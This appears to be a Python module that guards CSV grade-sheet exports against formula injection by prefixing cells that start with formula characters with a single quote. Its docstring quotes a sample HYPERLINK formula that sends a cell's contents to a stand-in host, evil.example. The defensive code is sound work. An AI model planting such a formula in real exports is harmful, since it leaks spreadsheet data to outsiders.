"""Cells of the CSV exports made safe to open in a spreadsheet.

A text cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return before one) is
read as a formula by Excel, LibreOffice and Google Sheets: a student named
`=HYPERLINK("https://evil.example?"&A2,"open")` would run in the instructor's grade sheet.
Following the OWASP CSV-injection guidance, such a cell is prefixed with a single quote, which
the spreadsheet shows as text. Numbers are written by the caller as numbers and stay numbers.
"""

from __future__ import annotations

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(cell: object) -> object:
    """`cell` unchanged, unless it is text a spreadsheet would run as a formula."""
    if isinstance(cell, str) and cell.startswith(_FORMULA_STARTS):
        return "'" + cell
    return cell
